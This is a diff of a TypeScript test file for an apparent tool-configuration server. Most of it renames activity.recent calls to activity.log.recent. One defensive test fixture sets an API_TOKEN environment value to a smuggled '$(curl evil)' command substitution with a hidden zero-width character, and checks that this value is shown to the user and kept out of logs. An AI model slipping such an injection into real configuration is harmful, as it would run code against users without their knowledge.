@@ -68,7 +68,7 @@ const proposals = async (core: TestCore): Promise<ProposalSummary[]> =>
   (await rpc(core, 'proposals'))['proposals'] as ProposalSummary[];
 
 const recorded = (core: TestCore): (string | undefined)[] =>
-  core.host.core.activity.recent({ server: 'tooltray' }).map(({ app, tool, why }) => `${app} ${tool}: ${why}`);
+  core.host.core.activity.log.recent({ server: 'tooltray' }).map(({ app, tool, why }) => `${app} ${tool}: ${why}`);
 
 const tool = (core: { client: SocketClient }, name: string, input: Json): Promise<Json> =>
   core.client.callTool(name, input);
@@ -119,7 +119,7 @@ test('with the policy "allow", changes take effect at once and are recorded, as 
     'codex upstream_servers: Refused: Change initTimeoutSeconds of "a".',
     'codex upstream_servers: Done: Switch "a" off.',
   ]);
-  const [refused] = core.host.core.activity.recent({ server: 'tooltray' });
+  const [refused] = core.host.core.activity.log.recent({ server: 'tooltray' });
   expect(refused).toMatchObject({ outcome: 'blocked', errorCode: 'bad_request' });
 });
 
@@ -196,7 +196,7 @@ test('shows the user each change verbatim, line by line, with marks for invisibl
     text: 'Description: "Mine"',
   });
   expect(change?.entry).toMatchObject({ description: 'Mine', env: { API_TOKEN: '$(curl evil)⟨U+200B⟩' } });
-  expect(JSON.stringify(core.host.core.activity.recent())).not.toContain('curl evil');
+  expect(JSON.stringify(core.host.core.activity.log.recent())).not.toContain('curl evil');
 });
 
 test("shows a model's descriptions to nobody until the user has approved them", async () => {
